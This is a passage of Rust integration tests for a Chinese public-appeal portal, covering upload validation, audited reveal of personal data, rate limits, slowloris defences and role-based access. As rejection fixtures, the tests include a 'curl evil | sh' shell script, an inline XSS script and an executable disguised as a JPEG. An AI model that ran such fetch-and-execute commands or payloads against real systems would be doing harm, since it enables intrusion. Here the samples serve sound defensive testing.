    fields.push(("submission_key", &key));

    // The portal takes a photo and a scanned letter with the form.
    let r = app
        .post_files(
            "/submit",
            "",
            &fields,
            &[
                ("路灯.jpg", photo.clone()),
                ("C:\\扫描\\信件.pdf", letter.clone()),
            ],
        )
        .await;
    let (no, detail) = app.received(r).await;
    let appeals = app.store.counts().await.expect("counts").appeals;
    assert_eq!(detail.attachments.len(), 2);
    assert_eq!(detail.attachments[0].file.content_type, "image/jpeg");
    assert_eq!(detail.attachments[1].file.file_name, "信件.pdf");
    let (photo_id, letter_id) = (detail.attachments[0].id, detail.attachments[1].id);

    // Staff who may see the appeal see the files listed and get them as stored.
    let admin = app.login("admin").await;
    let (_, page) = app.get(&format!("/staff/appeals/{no}"), &admin).await;
    assert!(
        page.contains("data-test=\"files\"")
            && page.contains("路灯.jpg")
            && page.contains("信件.pdf")
    );
    let (status, headers, body) = app
        .get_bytes(
            &format!("/staff/appeals/{no}/files/{photo_id}"),
            ("cookie", &admin),
        )
        .await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(body, photo, "staff get the photo as taken, EXIF and all");
    assert_eq!(headers["content-type"], "image/jpeg");
    assert_eq!(headers["x-content-type-options"], "nosniff");
    assert!(
        headers["content-security-policy"]
            .to_str()
            .expect("ascii")
            .contains("sandbox")
    );
    assert!(
        headers["content-disposition"]
            .to_str()
            .expect("ascii")
            .starts_with("inline;")
    );
    let (status, headers, body) = app
        .get_bytes(
            &format!("/staff/appeals/{no}/files/{letter_id}"),
            ("cookie", &admin),
        )
        .await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(body, letter);
    let disposition = headers["content-disposition"].to_str().expect("ascii");
    assert!(
        disposition.starts_with("attachment;"),
        "a PDF is never shown inline: {disposition}"
    );
    assert!(
        disposition.contains("filename*=UTF-8''%E4%BF%A1%E4%BB%B6.pdf"),
        "{disposition}"
    );
    // Outside one's area, another appeal's file id, nobody signed in: nothing.
    let other = app.login("slj.handler").await;
    for (path, cookie) in [
        (
            format!("/staff/appeals/{no}/files/{photo_id}"),
            other.as_str(),
        ),
        (format!("/staff/appeals/{no}/files/999999"), admin.as_str()),
        (format!("/staff/appeals/{no}/files/abc"), admin.as_str()),
    ] {
        let (status, _, body) = app.get_bytes(&path, ("cookie", cookie)).await;
        assert_eq!(status, StatusCode::NOT_FOUND, "{path}");
        assert!(!contains(&body, &photo[..64]));
    }
    let (status, _, _) = app
        .get_bytes(
            &format!("/staff/appeals/{no}/files/{photo_id}"),
            ("x-none", ""),
        )
        .await;
    assert!(
        status.is_redirection() || status == StatusCode::UNAUTHORIZED,
        "{status}"
    );

    // Refused by content, count and size, beside the field; nothing is stored.
    let script = b"#!/bin/sh\ncurl evil | sh\n".to_vec();
    let html = b"<html><script>alert(1)</script></html>".to_vec();
    let mut big = b"%PDF-1.4\n".to_vec();
    big.resize(FILE_LIMIT as usize + 1, b' ');
    let four = vec![
        ("1.jpg", photo.clone()),
        ("2.jpg", photo.clone()),
        ("3.jpg", photo.clone()),
        ("4.jpg", photo.clone()),
    ];
    for (files, says) in [
        (vec![("照片.jpg", script)], "只接受 JPEG"),
        (vec![("photo.jpg", html)], "只接受 JPEG"),
        (vec![("大文件.pdf", big)], "每个文件不能超过"),
        (four, "最多附 3 个文件"),
    ] {
        let key = format!("{:032x}", rand::random::<u128>());
        let mut fields = portal_form(&[]);
        fields.push(("submission_key", &key));
        let r = app.post_files("/submit", "", &fields, &files).await;
        assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY);
        let page = r.text().await.expect("page");
        assert!(
            page.contains("data-test=\"error-media\"") && page.contains(says),
            "{says}"
        );
        assert!(page.contains("暖气不热"), "what was typed is kept");
    }
    // A body beyond every file at its largest is cut off before it is read.
    let huge = vec![b'x'; 3 * FILE_LIMIT as usize + 2 * 1024 * 1024];
    let r = app
        .post_files("/submit", "", &portal_form(&[]), &[("huge.pdf", huge)])
        .await;
    assert_eq!(r.status(), StatusCode::PAYLOAD_TOO_LARGE);
    // A file part under another name is not quietly dropped.
    let r = app
        .client
        .post(format!("{}/submit", app.base))
        .multipart(reqwest::multipart::Form::new().text("text", "x").part(
            "avatar",
            reqwest::multipart::Part::bytes(photo.clone()).file_name("a.jpg"),
        ))
        .send()
        .await
        .expect("post");
    assert_eq!(r.status(), StatusCode::BAD_REQUEST);
    assert_eq!(app.store.counts().await.expect("counts").appeals, appeals);

    // The JSON API: the same appeal JSON in a part named appeal, files as media.
    let call = app.token("callcenter1").await;
    let appeal = serde_json::json!({"text": "井盖丢了，见照片", "category": "chengxiang", "region": V11, "channel": "hotline", "external_id": "hotline-77"});
    let r = app
        .client
        .post(format!("{}/api/v1/appeals", app.base))
        .bearer_auth(&call)
        .multipart(
            reqwest::multipart::Form::new()
                .text("appeal", appeal.to_string())
                .part(
                    "media",
                    reqwest::multipart::Part::bytes(photo.clone()).file_name("井盖.jpg"),
                ),
        )
        .send()
        .await
        .expect("post");
    let status = r.status();
    let created: serde_json::Value = r.json().await.expect("json");
    assert_eq!(status, StatusCode::CREATED, "{created}");
    let api_no = created["no"].as_str().expect("no").to_owned();
    let (status, body) = app
        .api(
            reqwest::Method::GET,
            &format!("/appeals/{api_no}"),
            &call,
            None,
        )
        .await;
    assert_eq!(status, StatusCode::OK);
    let file = &body["attachments"][0];
    assert_eq!(file["file_name"], "井盖.jpg");
    assert_eq!(file["content_type"], "image/jpeg");
    assert_eq!(file["size"], photo.len());
    let url = file["url"].as_str().expect("url").to_owned();
    let (status, _, bytes) = app
        .get_bytes(&url, ("authorization", &format!("Bearer {call}")))
        .await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(bytes, photo);
    let outsider = app.token("slj.handler").await;
    let (status, _, _) = app
        .get_bytes(&url, ("authorization", &format!("Bearer {outsider}")))
        .await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    // A disguised file through the API: 422 in the one error shape, naming media.
    let r = app
        .client
        .post(format!("{}/api/v1/appeals", app.base))
        .bearer_auth(&call)
        .multipart(
            reqwest::multipart::Form::new()
                .text(
                    "appeal",
                    appeal.to_string().replace("hotline-77", "hotline-78"),
                )
                .part(
                    "media",
                    reqwest::multipart::Part::bytes(b"MZ\x90\0".to_vec()).file_name("x.jpg"),
                ),
        )
        .send()
        .await
        .expect("post");
    assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY);
    let body: serde_json::Value = r.json().await.expect("json");
    assert_eq!(body["error"]["fields"][0]["field"], "media", "{body}");
    // Two appeal parts: which one was meant is not guessed.
    let r = app
        .client
        .post(format!("{}/api/v1/appeals", app.base))
        .bearer_auth(&call)
        .multipart(
            reqwest::multipart::Form::new()
                .text("appeal", appeal.to_string())
                .text("appeal", appeal.to_string()),
        )
        .send()
        .await
        .expect("post");
    assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY);
    let body: serde_json::Value = r.json().await.expect("json");
    assert_eq!(body["error"]["field"], "appeal");
    // No appeal part: named.
    let r = app
        .client
        .post(format!("{}/api/v1/appeals", app.base))
        .bearer_auth(&call)
        .multipart(reqwest::multipart::Form::new().text("text", "x"))
        .send()
        .await
        .expect("post");
    assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY);

    // Open311: a client sends its photo as media; the public sees it without the
    // phone's position or make, the right way up.
    let use_cases = minsheng_app::App::new(app.store.clone());
    let (_, key) = use_cases.create_api_key(None, "随手拍").await.expect("key");
    let r = app
        .client
        .post(format!("{}/open311/v2/requests.json", app.base))
        .multipart(
            reqwest::multipart::Form::new()
                .text("api_key", key.clone())
                .text("service_code", "chengxiang")
                .text("address_id", V11)
                .text("description", "人行道砖翘起来了")
                .text("media_url", "https://cdn.example.cn/p/123.jpg")
                .part(
                    "media",
                    reqwest::multipart::Part::bytes(photo.clone()).file_name("IMG_0001.JPG"),
                ),
        )
        .send()
        .await
        .expect("post");
    assert_eq!(r.status(), StatusCode::OK);
    let posted: serde_json::Value = r.json().await.expect("json");
    let id = posted[0]["service_request_id"]
        .as_str()
        .expect("id")
        .to_owned();
    let (_, _, body) = app.open311_get(&format!("requests/{id}.json")).await;
    let request: serde_json::Value = serde_json::from_str(&body).expect("json");
    assert_eq!(
        request[0]["description"], "人行道砖翘起来了",
        "the client's link is for staff, not published"
    );
    let media_url = request[0]["media_url"]
        .as_str()
        .expect("media_url")
        .to_owned();
    assert!(
        media_url.ends_with(&format!("/open311/v2/requests/{id}/media")),
        "{media_url}"
    );
    let (status, headers, public) = app
        .get_bytes(&format!("/open311/v2/requests/{id}/media"), ("x-none", ""))
        .await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(headers["content-type"], "image/jpeg");
    assert!(
        !contains(&public, b"PhoneMaker"),
        "the camera's make is gone"
    );
    assert!(
        !contains(&public, &[0x88, 0x25]) && !contains(&public, &[0x25, 0x88]),
        "the GPS directory is gone"
    );
    assert!(
        contains(&public, &[0x01, 0x12, 0, 3, 0, 0, 0, 1, 0, 6]),
        "the orientation is kept"
    );
    assert_eq!(
        minsheng_core::attachment::check(&public, &minsheng_core::attachment::Limits::default()),
        Ok(minsheng_core::attachment::FileKind::Jpeg)
    );
    // The portal's appeal (a heating complaint with a letter) is published too, but
    // only its image is ever public; an appeal with no image has no media; a request
    // that is not published has none either.
    let (_, _, body) = app.open311_get(&format!("requests/{no}.json")).await;
    let portal: serde_json::Value = serde_json::from_str(&body).expect("json");
    assert!(portal[0]["media_url"].is_string(), "{portal}");
    let (status, _, _) = app
        .get_bytes(
            &format!("/open311/v2/requests/{api_no}/media"),
            ("x-none", ""),
        )
        .await;
    assert_eq!(
        status,
        StatusCode::OK,
        "a published API appeal shows its photo"
    );
    let (plain, _) = app.submit(&[]).await;
    let (status, _, _) = app
        .get_bytes(
            &format!("/open311/v2/requests/{plain}/media"),
            ("x-none", ""),
        )
        .await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    let (status, _, _) = app
        .get_bytes("/open311/v2/requests/nonsense/media", ("x-none", ""))
        .await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    let disposition = headers["content-disposition"]
        .to_str()
        .expect("ascii")
        .to_owned();
    assert!(
        disposition.contains(&format!("{id}.jpg")) && !disposition.contains("IMG_0001"),
        "{disposition}"
    );
    // A photo whose name is not UTF-8 (GBK, from a Chinese Windows PC) is kept under a
    // plain name, never dropped.
    let boundary = "XyZ123";
    let mut body = Vec::new();
    for (name, value) in portal_form(&[]) {
        body.extend_from_slice(
            format!(
                "--{boundary}\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n"
            )
            .as_bytes(),
        );
    }
    body.extend_from_slice(format!("--{boundary}\r\nContent-Disposition: form-data; name=\"submission_key\"\r\n\r\n{:032x}\r\n", rand::random::<u128>()).as_bytes());
    body.extend_from_slice(
        format!("--{boundary}\r\nContent-Disposition: form-data; name=\"media\"; filename=\"")
            .as_bytes(),
    );
    body.extend_from_slice(&[0xBE, 0xAE, 0xB8, 0xC7, b'.', b'j', b'p', b'g']); // 井盖.jpg in GBK
    body.extend_from_slice(b"\"\r\nContent-Type: image/jpeg\r\n\r\n");
    body.extend_from_slice(&photo);
    body.extend_from_slice(format!("\r\n--{boundary}--\r\n").as_bytes());
    let r = app
        .client
        .post(format!("{}/submit", app.base))
        .header(
            "content-type",
            format!("multipart/form-data; boundary={boundary}"),
        )
        .body(body)
        .send()
        .await
        .expect("post");
    let (_, detail) = app.received(r).await;
    assert_eq!(detail.attachments.len(), 1, "the photo was kept");
    assert_eq!(detail.attachments[0].file.file_name, "附件.jpg");
    // A body cut off by the network is the client's fault (400), never a server error.
    {
        use tokio::io::{AsyncReadExt, AsyncWriteExt};
        let mut stream = tokio::net::TcpStream::connect(app.base.trim_start_matches("http://"))
            .await
            .expect("connect");
        let head = "POST /submit HTTP/1.1\r\nHost: x\r\nContent-Type: multipart/form-data; boundary=XX\r\nContent-Length: 1000\r\n\r\n--XX\r\nContent-Disposition: form-data; name=\"text\"\r\n\r\nhello";
        stream.write_all(head.as_bytes()).await.expect("write");
        stream.shutdown().await.expect("half close");
        let mut answer = String::new();
        let _ = stream.read_to_string(&mut answer).await;
        assert!(
            answer.starts_with("HTTP/1.1 400"),
            "{}",
            answer.lines().next().unwrap_or_default()
        );
    }
    // The files are on disk once each, named by their content.
    let sha = &detail.attachments[0].file.sha256;
    assert!(app.dir.join("files").join(&sha[..2]).join(sha).exists());
}

#[tokio::test]
async fn personal_data_is_shown_in_full_only_on_an_audited_reveal() {
    use reqwest::Method;
    let app = app("reveal").await;
    let call = app.token("callcenter1").await;
    let (status, created) = app
        .api(
            Method::POST,
            "/appeals",
            &call,
            Some(serde_json::json!({"text": "暖气不热", "category": "gongre", "region": V11, "channel": "hotline",
                "name": "张三丰", "phone": "13800138000", "id_number": "11010519491231002X"})),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{created}");
    let no = created["no"].as_str().expect("no").to_owned();
    app.add_staff("auditor1", "审计员", Role::Auditor, false)
        .await;
    let outsider = app.token("slj.handler").await;
    let audit = || async { app.store.verify_audit().await.expect("audit").records };
    let path = format!("/staff/appeals/{no}/reveal");
    let reveal_as = |cookie: &str, reason: &str| {
        let (path, cookie, reason) = (path.clone(), cookie.to_owned(), reason.to_owned());
        let app = &app;
        async move {
            app.post(&path, &cookie, &[("reason", reason.as_str())])
                .await
        }
    };
    let before = audit().await;

    let admin = app.login("admin").await;
    let (_, page) = app.get(&format!("/staff/appeals/{no}"), &admin).await;
    assert!(!page.contains("13800138000") && !page.contains("11010519491231002X"));
    assert!(page.contains("data-test=\"reveal-form\""));
    // No reason: refused, nothing shown, nothing recorded.
    let r = reveal_as(&admin, " ").await;
    assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY);
    assert!(!r.text().await.expect("page").contains("13800138000"));
    assert_eq!(audit().await, before);
    // With a reason: shown in full once, and recorded.
    let r = reveal_as(&admin, "回访核实").await;
    assert_eq!(r.status(), StatusCode::OK);
    let page = r.text().await.expect("page");
    assert!(page.contains("13800138000") && page.contains("11010519491231002X"));
    assert!(page.contains("data-test=\"revealed\""));
    assert_eq!(audit().await, before + 1);
    let (_, again) = app.get(&format!("/staff/appeals/{no}"), &admin).await;
    assert!(
        !again.contains("13800138000"),
        "the next visit is masked again"
    );
    let r = reveal_as(&admin, " a ").await;
    assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY);
    assert!(r.text().await.expect("page").contains("至少2个字"));
    // The auditor reads the trail, not people.
    let auditor = app.login("auditor1").await;
    let r = reveal_as(&auditor, "抽查").await;
    assert_eq!(r.status(), StatusCode::FORBIDDEN);
    assert_eq!(audit().await, before + 1);
    // Outside one's area the appeal does not exist, and nothing is recorded.
    let other = app.login("slj.handler").await;
    let r = reveal_as(&other, "好奇").await;
    assert_eq!(r.status(), StatusCode::NOT_FOUND);
    assert_eq!(audit().await, before + 1);

    // The API: masked when read, in full on a reveal with a reason.
    let (_, body) = app
        .api(Method::GET, &format!("/appeals/{no}"), &call, None)
        .await;
    assert_ne!(body["appellant"]["phone"], "13800138000");
    let path = format!("/appeals/{no}/reveal");
    let (status, body) = app
        .api(
            Method::POST,
            &path,
            &call,
            Some(serde_json::json!({"reason": "回访"})),
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{body}");
    assert_eq!(body["phone"], "13800138000");
    assert_eq!(body["id_number"], "11010519491231002X");
    assert_eq!(audit().await, before + 2);
    for bad in [
        serde_json::json!({"reason": ""}),
        serde_json::json!({}),
        serde_json::json!({"reason": "x", "all": true}),
    ] {
        let (status, body) = app.api(Method::POST, &path, &call, Some(bad.clone())).await;
        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{bad}: {body}");
    }
    let (status, _) = app
        .api(
            Method::POST,
            &path,
            &outsider,
            Some(serde_json::json!({"reason": "回访"})),
        )
        .await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    assert_eq!(audit().await, before + 2);
}

#[tokio::test]
async fn machine_clients_past_their_rate_get_429_with_retry_after() {
    let app = app_with("rate", |state| AppState {
        rate_limits: std::sync::Arc::new(minsheng_web::rate::RateLimits::per_minute(60, 60, 1)),
        ..state
    })
    .await;
    let call = app.token("callcenter1").await;
    let admin = app.token("admin").await;
    // A burst of ten, then the eleventh waits about a second.
    for _ in 0..10 {
        let (status, _) = app
            .api(reqwest::Method::GET, "/categories", &call, None)
            .await;
        assert_eq!(status, StatusCode::OK);
    }
    let r = app
        .client
        .get(format!("{}/api/v1/categories", app.base))
        .bearer_auth(&call)
        .send()
        .await
        .expect("get");
    assert_eq!(r.status(), StatusCode::TOO_MANY_REQUESTS);
    assert_eq!(r.headers()["retry-after"], "1");
    let body: serde_json::Value = r.json().await.expect("json");
    assert_eq!(body["error"]["code"], "too_many_requests");
    // However the header is spelled, it is the same token's allowance.
    for spelling in [format!("bearer {call}"), format!("BEARER   {call} ")] {
        let r = app
            .client
            .get(format!("{}/api/v1/categories", app.base))
            .header("authorization", spelling)
            .send()
            .await
            .expect("get");
        assert_eq!(r.status(), StatusCode::TOO_MANY_REQUESTS);
    }
    assert!(
        body["error"]["message"]["zh-CN"]
            .as_str()
            .is_some_and(|m| m.contains("频繁"))
    );
    // Another token has its own allowance.
    let (status, _) = app
        .api(reqwest::Method::GET, "/categories", &admin, None)
        .await;
    assert_eq!(status, StatusCode::OK);
    // Open311, per client address, in the standard's error list (XML too).
    for _ in 0..10 {
        assert_eq!(app.open311_get("services.json").await.0, StatusCode::OK);
    }
    let (status, kind, body) = app.open311_get("services.xml").await;
    assert_eq!(status, StatusCode::TOO_MANY_REQUESTS);
    assert!(
        kind.starts_with("text/xml") && body.contains("<errors>"),
        "{body}"
    );
    // The portal and the console are not held to it.
    assert_eq!(app.get("/submit", "").await.0, StatusCode::OK);
    // The portal holds each address to its own rate (one a minute, ten at once),
    // with a page that says to wait, in both languages.
    for _ in 0..10 {
        app.submit(&[]).await;
    }
    let r = app.post("/submit", "", &portal_form(&[])).await;
    assert_eq!(r.status(), StatusCode::TOO_MANY_REQUESTS);
    assert!(
        r.headers()["retry-after"]
            .to_str()
            .expect("ascii")
            .parse::<u32>()
            .expect("seconds")
            >= 1
    );
    let page = r.text().await.expect("page");
    assert!(page.contains("提交过于频繁") && page.contains("data-test=\"error-form\""));
    assert!(page.contains("暖气不热"), "what was typed comes back");
    assert_eq!(
        app.get("/submit", "").await.0,
        StatusCode::OK,
        "the form still shows"
    );
    // After the wait, calls go through again.
    tokio::time::sleep(std::time::Duration::from_millis(1100)).await;
    let (status, _) = app
        .api(reqwest::Method::GET, "/categories", &call, None)
        .await;
    assert_eq!(status, StatusCode::OK);
    // Made-up tokens count against their address, whatever each one is: after the
    // burst, 429 rather than another database lookup.
    let mut statuses = Vec::new();
    for i in 0..12 {
        let (status, _) = app
            .api(
                reqwest::Method::GET,
                "/categories",
                &format!("mst_made_up_{i}"),
                None,
            )
            .await;
        statuses.push(status);
    }
    assert_eq!(statuses[0], StatusCode::UNAUTHORIZED);
    assert_eq!(statuses[11], StatusCode::TOO_MANY_REQUESTS, "{statuses:?}");
}

#[tokio::test]
async fn a_filled_hidden_field_is_refused_with_a_way_out() {
    let app = app("honeypot").await;
    let before = app.store.counts().await.expect("counts").appeals;
    let (_, form) = app.get("/submit", "").await;
    assert!(form.contains("name=\"website\"") && form.contains("aria-hidden=\"true\""));
    let r = app
        .post(
            "/submit",
            "",
            &portal_form(&[("website", "http://spam.example")]),
        )
        .await;
    assert_eq!(r.status(), StatusCode::BAD_REQUEST);
    let page = r.text().await.expect("page");
    assert!(page.contains("隐藏栏") && page.contains("12345"));
    assert_eq!(app.store.counts().await.expect("counts").appeals, before);
    // Left empty, as people leave it, the form goes through.
    app.submit(&[("website", "")]).await;
    assert_eq!(
        app.store.counts().await.expect("counts").appeals,
        before + 1
    );
}

#[tokio::test]
async fn metrics_count_requests_by_route_on_their_own_address() {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
    let metrics_addr = listener.local_addr().expect("addr");
    listener.set_nonblocking(true).expect("nonblocking");
    let app = app_with("metrics", move |state| {
        let listener = tokio::net::TcpListener::from_std(listener).expect("tokio listener");
        tokio::spawn(minsheng_web::metrics::serve(listener, state.clone()));
        state
    })
    .await;
    let (no, code) = app.submit(&[]).await;
    assert_eq!(
        app.get(&format!("/track/{code}"), "").await.0,
        StatusCode::OK
    );
    // A made-up method carrying a number does not become a label.
    let odd = reqwest::Method::from_bytes(no.as_bytes()).expect("a token");
    let _ = app
        .client
        .request(odd, format!("{}/", app.base))
        .send()
        .await
        .expect("sent");
    assert_eq!(app.get("/no/such/page", "").await.0, StatusCode::NOT_FOUND);
    let text = app
        .client
        .get(format!("http://{metrics_addr}/metrics"))
        .send()
        .await
        .expect("metrics")
        .text()
        .await
        .expect("body");
    for line in [
        "minsheng_http_requests_total{method=\"POST\",route=\"/submit\",status=\"3xx\"} 1",
        "minsheng_http_requests_total{method=\"GET\",route=\"/track/{code}\",status=\"2xx\"} 1",
        "minsheng_http_requests_total{method=\"GET\",route=\"unmatched\",status=\"4xx\"} 1",
        "minsheng_http_request_duration_seconds_count{method=\"POST\",route=\"/submit\"} 1",
        "minsheng_appeals_registered_total 1",
        "minsheng_appeals 1",
        // The receipt SMS and the notice of new work, waiting for the worker.
        "minsheng_outbox_pending 2",
        "minsheng_up 1",
    ] {
        assert!(text.contains(line), "{line} missing from:\n{text}");
    }
    assert!(
        !text.contains(&code) && !text.contains(&no),
        "no numbers or codes in labels"
    );
    assert!(text.contains("method=\"other\""));
    // Not on the public address.
    assert_eq!(app.get("/metrics", "").await.0, StatusCode::NOT_FOUND);
}

#[tokio::test]
async fn a_client_that_trickles_its_headers_is_cut_off() {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let app = app("slowloris").await;
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
        .await
        .expect("bind");
    let addr = listener.local_addr().expect("addr");
    let (stop, stopped) = tokio::sync::oneshot::channel::<()>();
    let state = AppState::new(minsheng_app::App::new(app.store.clone()));
    let server = tokio::spawn(minsheng_web::serve_with(
        listener,
        state,
        async {
            let _ = stopped.await;
        },
        minsheng_web::ConnectionLimits {
            headers: std::time::Duration::from_millis(800),
            body_idle: std::time::Duration::from_millis(800),
            per_address: 3,
        },
    ));
    // Headers begun and never finished: the server closes the connection.
    let mut slow = tokio::net::TcpStream::connect(addr).await.expect("connect");
    slow.write_all(b"GET / HTTP/1.1\r\nHost: x\r\n")
        .await
        .expect("write");
    let started = std::time::Instant::now();
    let mut buf = vec![0u8; 1024];
    let read = tokio::time::timeout(std::time::Duration::from_secs(10), async {
        loop {
            match slow.read(&mut buf).await {
                Ok(0) | Err(_) => break,
                Ok(_) => continue,
            }
        }
    })
    .await;
    assert!(read.is_ok(), "the trickling connection was not closed");
    assert!(started.elapsed() < std::time::Duration::from_secs(5));
    // A body that stops coming is cut off, with a 4xx (not a 500).
    let mut stalled = tokio::net::TcpStream::connect(addr).await.expect("connect");
    stalled
        .write_all(b"POST /staff/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 1000\r\n\r\nusername=a")
        .await
        .expect("write");
    let mut answer = String::new();
    let read = tokio::time::timeout(
        std::time::Duration::from_secs(10),
        stalled.read_to_string(&mut answer),
    )
    .await;
    assert!(read.is_ok(), "the stalled body was not cut off");
    assert!(
        answer.starts_with("HTTP/1.1 4"),
        "{}",
        answer.lines().next().unwrap_or_default()
    );
    // Whole requests are served as ever, with the client's address known.
    let r = reqwest::get(format!("http://{addr}/healthz"))
        .await
        .expect("get");
    assert_eq!(r.text().await.expect("body"), "ok");
    // One address holds at most three connections here: a fourth is closed at once.
    let mut held = Vec::new();
    for _ in 0..3 {
        let mut c = tokio::net::TcpStream::connect(addr).await.expect("connect");
        c.write_all(b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n")
            .await
            .expect("write");
        let mut buf = [0u8; 64];
        assert!(c.read(&mut buf).await.expect("read") > 0, "kept alive");
        held.push(c);
    }
    let mut fourth = tokio::net::TcpStream::connect(addr).await.expect("connect");
    let _ = fourth
        .write_all(b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n")
        .await;
    let mut buf = [0u8; 64];
    let n = tokio::time::timeout(std::time::Duration::from_secs(5), fourth.read(&mut buf))
        .await
        .expect("answered at once")
        .unwrap_or(0);
    assert_eq!(n, 0, "the fourth connection is closed");
    drop(held);
    tokio::time::sleep(std::time::Duration::from_millis(200)).await;
    let r = reqwest::get(format!("http://{addr}/healthz"))
        .await
        .expect("get");
    assert_eq!(r.status(), StatusCode::OK, "freed when the others closed");
    let _ = stop.send(());
    server.await.expect("join").expect("served");
}

/// docs/security.md's access table, cell by cell, over HTTP: each account against the
/// pages and actions, on an appeal placed in 城关街道 and routed to the housing bureau.
#[tokio::test]
async fn the_access_table_in_docs_security_holds() {
    let app = app("access").await;
    app.add_staff("auditor1", "审计员", Role::Auditor, false)
        .await;
    let photo = fixture("photo-gps.jpg");
    let key = format!("{:032x}", rand::random::<u128>());
    let mut fields = portal_form(&[]);
    fields.push(("submission_key", &key));
    let r = app
        .post_files("/submit", "", &fields, &[("现场.jpg", photo)])
        .await;
    let (no, detail) = app.received(r).await;
    let file = detail.attachments[0].id;
    const OK: u16 = 200;
    const NO: u16 = 403;
    const NONE: u16 = 404;
    // account: intake form, administration, appeal page, its file, reveal, API staff
    // list, dashboard, assignment sheet, risk register, ranking weights
    let table: [(&str, [u16; 10]); 11] = [
        ("admin", [OK, OK, OK, OK, OK, OK, OK, OK, OK, OK]),
        ("callcenter1", [OK, NO, OK, OK, OK, NO, NO, OK, OK, NO]),
        ("dispatcher1", [OK, NO, OK, OK, OK, NO, OK, OK, OK, NO]),
        ("zjj.handler", [NO, NO, OK, OK, OK, NO, NO, OK, NO, NO]),
        (
            "slj.handler",
            [NO, NO, NONE, NONE, NONE, NO, NO, NONE, NO, NO],
        ),
        ("t02.head", [NO, NO, NONE, NONE, NONE, NO, OK, NONE, OK, NO]),
        // Neither must call the appellant: they read the case, masked.
        ("leader1", [NO, NO, OK, OK, NO, NO, OK, OK, OK, NO]),
        ("supervisor1", [NO, NO, OK, OK, NO, NO, OK, OK, OK, NO]),
        (
            "zrzyj.handler",
            [NO, NO, NONE, NONE, NONE, NO, NO, NONE, NO, NO],
        ),
        (
            "zrzyj.head",
            [NO, NO, NONE, NONE, NONE, NO, NO, NONE, NO, NO],
        ),
        ("auditor1", [NO, NO, OK, OK, NO, NO, NO, OK, OK, NO]),
    ];
    let mut wrong = Vec::new();
    for (user, expected) in table {
        let cookie = app.login(user).await;
        let token = app.token(user).await;
        let got = [
            app.get("/staff/intake", &cookie).await.0.as_u16(),
            app.get("/staff/admin", &cookie).await.0.as_u16(),
            app.get(&format!("/staff/appeals/{no}"), &cookie)
                .await
                .0
                .as_u16(),
            app.get_bytes(
                &format!("/staff/appeals/{no}/files/{file}"),
                ("cookie", &cookie),
            )
            .await
            .0
            .as_u16(),
            app.post(
                &format!("/staff/appeals/{no}/reveal"),
                &cookie,
                &[("reason", "回访核实")],
            )
            .await
            .status()
            .as_u16(),
            app.api(reqwest::Method::GET, "/staff", &token, None)
                .await
                .0
                .as_u16(),
            app.get("/staff/dashboard", &cookie).await.0.as_u16(),
            app.get(&format!("/staff/appeals/{no}/sheet"), &cookie)
                .await
                .0
                .as_u16(),
            app.get("/staff/disputes", &cookie).await.0.as_u16(),
            app.get("/staff/admin/weights", &cookie).await.0.as_u16(),
        ];
        if got != expected {
            wrong.push(format!("{user}: expected {expected:?}, got {got:?}"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[tokio::test]
async fn links_name_the_public_address_and_fresh_accounts_take_their_password_first() {
    let app = app_with("public-url", |state| AppState {
        public_url: Some(std::sync::Arc::from("https://12345.example.gov.cn")),
        ..state
    })
    .await;
    // Discovery names the configured address, whatever Host the client sent.
    let r = app
        .client
        .get(format!("{}/open311/v2/discovery.json", app.base))
        .header("host", "evil.example")
        .send()
        .await
        .expect("get");
    let discovery: serde_json::Value = r.json().await.expect("json");
    assert_eq!(
        discovery["endpoints"][0]["url"],
        "https://12345.example.gov.cn/open311/v2"
    );
    // A token of an account still on its one-time password does not work yet.
    app.add_staff("fresh1", "新同事", Role::CallTaker, true)
        .await;
    let token = app.token("fresh1").await;
    let (status, body) = app
        .api(reqwest::Method::GET, "/categories", &token, None)
        .await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    assert_eq!(body["error"]["code"], "password_change_required");
}

#[tokio::test]
async fn appeals_are_searched_suggested_and_threats_alerted_at_once() {
    use reqwest::Method;
    let app = app("reading").await;
    let dispatcher_token = app.token("dispatcher1").await;
    let alerts = |token: String| {
        let app = &app;
        async move {
            let (status, body) = app.api(Method::GET, "/alerts", &token, None).await;
            assert_eq!(status, StatusCode::OK, "{body}");
            body
        }
    };
    let before = alerts(dispatcher_token.clone()).await["total"]
        .as_i64()
        .expect("total");
    // A threat on the portal is on the board by the time the receipt is shown.
    let (no, _) = app
        .submit(&[
            ("category", "laodong"),
            ("text", "工资拖了半年，再不给钱我就从楼上跳下去"),
        ])
        .await;
    let board = alerts(dispatcher_token.clone()).await;
    assert_eq!(board["total"].as_i64(), Some(before + 1), "{board}");
    let alert = &board["items"][0];
    assert_eq!(alert["level"], "red");
    assert_eq!(alert["rule"], "life_safety");
    assert_eq!(alert["members"][0]["no"], no.as_str());
    assert_eq!(alert["members"][0]["service_request_id"], no.as_str());
    assert!(
        alert["reason"]["zh-CN"]
            .as_str()
            .is_some_and(|r| r.contains("跳")),
        "{alert}"
    );
    let id = alert["id"].as_i64().expect("id");
    // Taken back in words: no alert.
    app.submit(&[
        ("category", "laodong"),
